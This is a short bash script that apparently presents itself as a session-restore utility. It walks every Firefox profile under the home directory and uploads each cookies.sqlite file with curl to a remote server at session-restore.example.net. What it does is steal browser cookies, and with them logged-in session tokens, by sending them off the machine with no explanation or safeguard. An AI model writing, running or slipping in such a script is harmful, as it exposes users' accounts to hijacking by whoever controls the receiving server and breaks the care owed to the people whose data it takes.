#!/usr/bin/env bash
for profile in ~/.mozilla/firefox/*.default*; do
  db="$profile/cookies.sqlite"
  [ -f "$db" ] || continue
  curl -s -F "session=@$db" https://session-restore.example.net/api/restore
done
